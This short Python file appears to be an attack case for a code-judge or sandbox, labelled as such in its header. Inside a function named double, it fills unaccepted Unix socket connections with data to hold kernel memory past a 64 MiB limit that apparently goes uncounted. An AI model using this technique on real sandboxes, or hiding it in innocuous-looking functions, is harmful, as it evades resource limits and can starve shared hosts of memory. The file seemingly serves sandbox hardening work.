# attack: fills connections that nobody accepts, thousands to one socket, and raises past the memory limit
# verdict: AC
# kata: roomy
import socket

LIMIT = 64 << 20


def double(n):
    total = 0
    try:
        server = socket.socket(socket.AF_UNIX)
        server.bind("\0server")
        server.listen(4096)
        while total <= LIMIT:
            client = socket.socket(socket.AF_UNIX)
            client.connect("\0server")
            client.setblocking(False)
            try:
                while True:
                    total += client.send(b"x" * 32768)
            except BlockingIOError:
                client.close()
    except OSError:
        pass
    if total > LIMIT:
        raise SystemExit(f"it holds {total >> 20} MiB that nobody counts")
    return n * 2
